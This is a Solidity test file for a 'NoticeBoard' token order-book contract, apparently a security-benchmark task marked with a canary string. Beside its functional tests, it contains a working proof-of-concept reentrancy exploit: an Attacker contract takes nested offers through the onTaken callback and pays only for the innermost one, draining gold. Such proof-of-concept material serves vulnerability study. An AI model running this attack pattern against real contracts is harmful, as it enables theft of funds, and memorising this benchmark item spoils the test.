// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./NoticeBoard.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-e8c21513-80b6-4735-8a2f-5edcf513a29f

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Gold is ERC20 {
    constructor() ERC20("Gold", "GLD") {
        _mint(msg.sender, 1_000e6);
    }
}

contract Usd is ERC20 {
    constructor() ERC20("Usd", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

// loses a unit with every transfer
contract Worn is ERC20 {
    constructor() ERC20("Worn", "WRN") {
        _mint(msg.sender, 1_000e6);
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (from != address(0) && amount > 0) super._update(to, address(0), 1);
    }
}

contract Proof is ITaker {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_773_100_000;
    uint256 private constant ALL = type(uint256).max;

    Gold private gold;
    Usd private usd;
    NoticeBoard private board;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        (gold, usd, board) = (new Gold(), new Usd(), new NoticeBoard());
        gold.transfer(ANA, 100e6);
        usd.transfer(BEN, 200_000e6);
        vm.startPrank(ANA);
        gold.approve(address(board), ALL);
        for (uint256 i = 0; i < 4; ++i) board.post(gold, usd, 10e6, 30_000e6 + i * 1_000e6, 7 days);
        vm.stopPrank();
        mallory = new Attacker(board, usd);
        usd.transfer(address(mallory), 33_000e6);
    }

    // sells what it took to Ben
    function onTaken(uint256 id, uint256 price, bytes calldata data) external {
        require(msg.sender == address(board) && id == 1 && price == 31_000e6, "not asked for");
        uint256 amount = abi.decode(data, (uint256));
        gold.transfer(BEN, 10e6);
        vm.prank(BEN);
        usd.transfer(address(this), amount);
    }

    function test_Regular() public {
        require(board.count() == 4 && board.priceOf(0, 3e6) == 9_000e6, "posted");
        vm.startPrank(BEN);
        usd.approve(address(board), ALL);
        require(board.take(0, 3e6, 9_000e6, "") == 9_000e6 && usd.balanceOf(ANA) == 9_000e6, "a part");
        require(board.take(0, 1, ALL, "") == 3_000, "and a very small one");
        vm.stopPrank();
        vm.prank(ANA);
        board.reprice(0, 28_000e6);
        vm.prank(BEN);
        require(board.take(0, 7e6 - 1, 28_000e6, "") == 28_000e6 && gold.balanceOf(BEN) == 10e6, "the rest");
        (,,, uint256 left, uint256 price,) = board.offers(0);
        require(left == 0 && price == 0, "all of it");

        // somebody without money takes an offer and sells it on
        usd.transfer(BEN, usd.balanceOf(address(this)));
        usd.approve(address(board), ALL);
        board.take(1, 10e6, 31_000e6, abi.encode(32_000e6));
        require(usd.balanceOf(address(this)) == 1_000e6 && usd.balanceOf(ANA) == 68_000e6 + 3_000, "sold on");
        vm.prank(ANA);
        board.takeDown(2);
        (,,, left,,) = board.offers(2);
        require(left == 0 && gold.balanceOf(ANA) == 80e6, "taken down");
    }

    function test_RefusesOffers() public {
        vm.startPrank(ANA);
        vm.expectRevert("same token");
        board.post(gold, gold, 1, 1, 1 days);
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.BadTime.selector, 0));
        board.post(gold, usd, 1, 1, 0);
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.BadTime.selector, 90 days + 1));
        board.post(gold, usd, 1, 1, 90 days + 1);
        vm.stopPrank();
    }

    function test_RefusesOthersThanTheMaker() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.NotYours.selector, 1));
        board.reprice(1, 1);
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.NotYours.selector, 1));
        board.takeDown(1);
        vm.stopPrank();
    }

    function test_RefusesTakers() public {
        vm.startPrank(BEN);
        usd.approve(address(board), ALL);
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.NotThatMuch.selector, 10e6));
        board.take(0, 0, ALL, "");
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.NotThatMuch.selector, 10e6));
        board.take(0, 10e6 + 1, ALL, "");
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.TooDear.selector, 30_000e6));
        board.take(0, 10e6, 30_000e6 - 1, "");
        vm.warp(START + 7 days);
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.Over.selector, START + 7 days));
        board.take(0, 10e6, ALL, "");
        vm.stopPrank();
    }

    function test_RefusesTokensThatComeShort() public {
        Worn worn = new Worn();
        worn.approve(address(board), ALL);
        vm.prank(ANA);
        uint256 id = board.post(gold, worn, 10e6, 500e6, 1 days);
        vm.expectRevert(abi.encodeWithSelector(NoticeBoard.CameShort.selector, 500e6));
        board.take(id, 10e6, ALL, "");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(gold.balanceOf(address(mallory)) >= 40e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(board);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(gold);
    }
}

/// Takes one offer inside the other, and pays for the innermost one only.
contract Attacker is ITaker {
    NoticeBoard private board;
    IERC20 private usd;

    constructor(NoticeBoard board_, IERC20 usd_) {
        board = board_;
        usd = usd_;
    }

    function run() external {
        usd.approve(address(board), type(uint256).max);
        board.take(0, 10e6, type(uint256).max, "next");
    }

    function onTaken(uint256 id, uint256, bytes calldata data) external {
        require(msg.sender == address(board), "board only");
        board.take(id + 1, 10e6, type(uint256).max, id + 1 < 3 ? data : bytes(""));
    }
}
